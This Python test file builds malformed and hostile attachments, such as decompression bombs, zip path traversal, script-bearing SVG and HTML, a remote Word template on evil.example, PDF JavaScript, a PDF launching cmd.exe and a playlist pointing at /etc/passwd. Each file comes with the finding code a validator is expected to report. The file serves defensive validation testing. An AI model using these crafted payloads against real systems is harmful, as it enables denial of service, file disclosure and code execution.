"""Rows 62 to 79 and 25: what is inside pictures, office files, PDFs and clips."""

import struct
import zipfile
import zlib
from io import BytesIO

from tests.build_tools.bad_inputs.row import SECRET, Row, index
from tests.library.attachments.compound_files import EQUATION_3, FORMULA, MATHTYPE, stored

_DOCUMENT = '<w:document xmlns:w="http://example.org"><w:body>{}</w:body></w:document>'


def _attached(name: str, file: str, content: bytes, *codes: str) -> Row:
    files = {"index.md": index(more=f"attachments: [{file}]\n"), file: content}
    return Row(name, files, tuple(f"{file}:1 {code}" for code in codes))


def _shown(name: str, file: str, content: bytes, *codes: str) -> Row:
    files = {"index.md": index(f"![Hai phân số]({file})"), file: content}
    return Row(name, files, tuple(f"{file}:1 {code}" for code in codes))


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, more: bytes = b"") -> bytes:
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    pixels = _chunk(b"IDAT", zlib.compress(b"\0\0"))
    return b"\x89PNG\r\n\x1a\n" + header + more + pixels + _chunk(b"IEND", b"")


def _jpeg(width: int, height: int, *blocks: bytes) -> bytes:
    camera = b"".join(b"\xff\xe1" + struct.pack(">H", len(block) + 2) + block for block in blocks)
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + camera + frame + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x00\xff\xd9"


def _exif(tag: int) -> bytes:
    entry = struct.pack("<HHII", tag, 4, 1, 26)
    return b"Exif\0\0II*\0" + struct.pack("<IH", 8, 1) + entry + bytes(10)


def _zip(parts: dict[str, bytes], flags: int = 0) -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
    written = bytearray(stream.getvalue())
    if flags:
        at = written.find(b"PK\x01\x02")
        written[at + 8] |= flags
    return bytes(written)


def _docx(body: str = "<w:p/>", flags: int = 0, **parts: bytes) -> bytes:
    named = {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
    return _zip(
        {"[Content_Types].xml": b"<Types/>", "word/document.xml": _DOCUMENT.format(body).encode(), **named},
        flags,
    )


def _lying() -> bytes:
    """A part whose header promises ten bytes and which unfolds to megabytes."""
    written = bytearray(_docx(word__comments_dot_bin=bytes(8 * 2**20)))
    for sign, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = written.rfind(sign)
        written[at + offset : at + offset + 4] = struct.pack("<I", 10)
    return bytes(written)


def _packed_otherwise() -> bytes:
    """A document of LZMA, for whose unfolding it says itself how much memory to take."""
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("word/document.xml", _DOCUMENT.format("<w:p/>"))
    return stream.getvalue()


def _pdf(*objects: bytes) -> bytes:
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\nstartxref\n0\n%%EOF\n"


def _object_stream(content: bytes) -> bytes:
    packed = zlib.compress(content)
    return b"1 0 obj\n<< /Type /ObjStm /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (
        len(packed),
        packed,
    )


_RELS = (
    b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
    b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
_OLDER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
_XMP = b'<x exif:GPSLatitude="21,1.5N"/>'
_LFS = b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 9\n"

ROWS: tuple[Row, ...] = (
    _shown("62 a picture of 1.6 billion pixels", "a.png", _png(40_000, 40_000), "F113"),
    _shown("63 a picture of 169 million pixels", "a.jpg", _jpeg(13_000, 13_000), "F113"),
    _shown("63 a picture of 12 million pixels", "a.jpg", _jpeg(4000, 3000)),
    _shown("64 an animation without an end", "a.gif", b"GIF89a\x01\0\x01\0" + b"," * 100, "F114"),
    _shown(
        "65 a text that unfolds in a picture",
        "a.png",
        _png(8, 8, _chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(10**6)))),
    ),
    _shown("66 half a picture", "a.jpg", _jpeg(8, 8)[:-2], "F114"),
    _shown("66 a picture of no size", "a.png", _png(0, 8), "F114"),
    _shown("66 a WebP cut off", "a.webp", b"RIFF\xff\0\0\0WEBPVP8 " + bytes(20), "F114"),
    _shown("67 a page under the name of a picture", "a.jpg", b"<html><script>alert(1)</script>", "F108"),
    _shown("67 a drawing under the name of a picture", "a.png", b"<svg onload=alert(1)>", "F108"),
    _shown("68 PostScript", "a.png", b"%!PS-Adobe-3.0 EPSF", "F108"),
    _shown("69 a photo that tells its place", "a.jpg", _jpeg(8, 8, _exif(0x8825)), "F115"),
    _shown("69 a photo with its camera only", "a.jpg", _jpeg(8, 8, _exif(0x010F))),
    _shown("69 a PNG that tells its place", "a.png", _png(8, 8, _chunk(b"eXIf", _exif(0x8825)[6:])), "F115"),
    _shown(
        "69 the place in a JPEG's other block", "a.jpg", _jpeg(8, 8, _exif(0x8825), _exif(0x010F)), "F115"
    ),
    _shown("69 a JPEG that tells its place to editors", "a.jpg", _jpeg(8, 8, _XMP), "F115"),
    _shown("69 a PNG that tells its place to editors", "a.png", _png(8, 8, _chunk(b"iTXt", _XMP)), "F115"),
    _shown(
        "69 a PNG's place behind a word",
        "a.png",
        _png(8, 8, _chunk(b"tEXt", b"eXIf") + _chunk(b"eXIf", _exif(0x8825)[6:])),
        "F115",
    ),
    _attached("71 an SVG", "a.svg", b"<svg><script>alert(1)</script></svg>", "F108"),
    _attached(
        "72 a document that unfolds too large", "a.docx", _docx(word__a_dot_bin=bytes(30 * 2**20)), "F116"
    ),
    _attached("72 a document that lies about its size", "a.docx", _lying()),
    _attached("72 20,000 parts", "a.docx", _zip({f"a{n}": b"" for n in range(20_000)}), "F116"),
    _attached("72 a part outside", "a.docx", _docx(**{"..__..__etc": b"a"}), "F116"),
    _attached("72 a part with a backslash", "a.docx", _docx(**{"a\\b": b"a"}), "F116"),
    _attached("72 a locked document", "a.docx", _docx(flags=1), "F116"),
    _attached("72 half a document", "a.docx", _docx()[:60], "F116"),
    _attached("72 nothing behind the first bytes", "a.docx", b"PK\x03\x04", "F116"),
    _attached("25, 73 macros", "a.xlsx", _zip({"xl/vbaProject.bin": b"x"}), "F117"),
    _attached(
        "25 links to other workbooks", "a.xlsx", _zip({"xl/externalLinks/externalLink1.xml": b"x"}), "F117"
    ),
    _attached("73 macros of the older Word", "a.doc", _OLDER + "_VBA_PROJECT".encode("utf-16-le"), "F117"),
    _attached("73 a file of the older Word", "a.doc", _OLDER),
    _attached("73 a macro file by name", "a.docm", b"PK\x03\x04", "F108"),
    _attached(
        "73 a template from elsewhere", "a.docx", _docx(word___rels__settings_dot_xml_dot_rels=_RELS), "F117"
    ),
    _attached(
        "73 a template from elsewhere, in other quotes",
        "a.docx",
        _docx(word___rels__settings_dot_xml_dot_rels=_RELS.replace(b'"', b"'")),
        "F117",
    ),
    _attached("72 a part packed as no office program does", "a.docx", _packed_otherwise(), "F116"),
    _attached(
        "74 tracked changes in UTF-16",
        "a.docx",
        _zip({"word/document.xml": '<w:document><w:ins w:id="1"></w:document>'.encode("utf-16")}),
        "F118",
    ),
    _attached("74 hidden text, in other quotes", "a.docx", _docx("<w:vanish w:val='true'/>"), "F118"),
    _attached(
        "75 object streams that unfold too large",
        "a.pdf",
        _pdf(*[_object_stream(bytes(2 * 2**20))] * 20),
        "F116",
    ),
    _attached("73 an embedded program", "a.docx", _docx(word__embeddings__oleObject1_dot_bin=b"x"), "F117"),
    _attached(
        "73 formulas of MathType",
        "a.docx",
        _docx(word__embeddings__oleObject1_dot_bin=stored(MATHTYPE, FORMULA)),
    ),
    _attached(
        "73 formulas of the program that was withdrawn",
        "a.docx",
        _docx(word__embeddings__oleObject1_dot_bin=stored(EQUATION_3, FORMULA)),
        "F117",
    ),
    _attached(
        "73 a formula and a program",
        "a.docx",
        _docx(
            word__embeddings__oleObject1_dot_bin=stored(MATHTYPE, FORMULA),
            word__embeddings__oleObject2_dot_bin=stored(MATHTYPE, ("\x01Ole10Native",)),
        ),
        "F117",
    ),
    _attached("74 comments", "a.docx", _docx(word__comments_dot_xml=f"<w:t>{SECRET}</w:t>".encode()), "F118"),
    _attached("74 tracked changes", "a.docx", _docx(f'<w:ins w:id="1"><w:t>{SECRET}</w:t></w:ins>'), "F118"),
    _attached("74 hidden text", "a.docx", _docx(f"<w:rPr><w:vanish/></w:rPr><w:t>{SECRET}</w:t>"), "F118"),
    _attached(
        "74 comments of newer kinds", "a.pptx", _zip({"ppt/comments/modernComment_1.xml": b"x"}), "F118"
    ),
    _attached("74 a comment beside the text", "a.odt", _zip({"content.xml": b"<office:annotation>"}), "F118"),
    _attached(
        "74 hidden text in a footnote", "a.docx", _docx(word__footnotes_dot_xml=b"<w:vanish/>"), "F118"
    ),
    _attached(
        "74 hidden text of a style", "a.odt", _zip({"content.xml": b'<s text:display="none"/>'}), "F118"
    ),
    _attached(
        "74 a hidden sheet",
        "a.xlsx",
        _zip({"xl/workbook.xml": b'<sheet name="a" state="veryHidden"/>'}),
        "F118",
    ),
    _attached(
        "74 a hidden column",
        "a.xlsx",
        _zip({"xl/worksheets/sheet1.xml": b'<col min="5" hidden="1"/>'}),
        "F118",
    ),
    _attached(
        "74 what is not hidden", "a.xlsx", _zip({"xl/worksheets/sheet1.xml": b'<col min="5" hidden="0"/>'})
    ),
    _attached(
        "74 a hidden slide", "a.pptx", _zip({"ppt/slides/slide2.xml": b'<p:sld a="b" show="0">'}), "F118"
    ),
    _attached(
        "93 a class list in cells of their own",
        "a.xlsx",
        _zip({"xl/worksheets/sheet1.xml": b"<t>0912000001</t><t>0912000002</t><t>0912000003</t>"}),
        "F119",
    ),
    _attached("75 a PDF with a program", "a.pdf", _pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "F117"),
    _attached("75 a program under an escaped name", "a.pdf", _pdf(b"<< /S /J#61vaScript >>"), "F117"),
    _attached(
        "75 a program in an object stream", "a.pdf", _pdf(_object_stream(b"<< /S /JavaScript >>")), "F117"
    ),
    _attached("75 a command", "a.pdf", _pdf(b"<< /S /Launch /F (cmd.exe) >>"), "F117"),
    _attached("75 an embedded file", "a.pdf", _pdf(b"<< /Type /EmbeddedFile >>"), "F117"),
    _attached("75 a locked PDF", "a.pdf", _pdf(b"trailer << /Encrypt 5 0 R >>"), "F116"),
    _attached(
        "75 answers in the margin", "a.pdf", _pdf(f"<< /Subtype /FreeText ({SECRET}) >>".encode()), "F118"
    ),
    _attached("75 half a PDF", "a.pdf", b"%PDF-1.7\n1 0 obj", "F114"),
    _attached(
        "76 XML that unfolds", "a.docx", _docx(word__comments2_dot_rels=b'<!DOCTYPE x [<!ENTITY a "aa">]>&a;')
    ),
    _attached("77 a playlist under the name of a clip", "a.mp4", b"#EXTM3U\nfile:///etc/passwd\n", "F108"),
    _attached("77 an empty clip", "a.mp4", b"", "F108"),
    _attached("78 a package of pages", "a.h5p", b"PK\x03\x04", "F108"),
    _attached("78 a page", "a.html", b"<script>alert(1)</script>", "F108"),
    _attached("79 a pointer to a file elsewhere", "a.pdf", _LFS, "F108"),
)
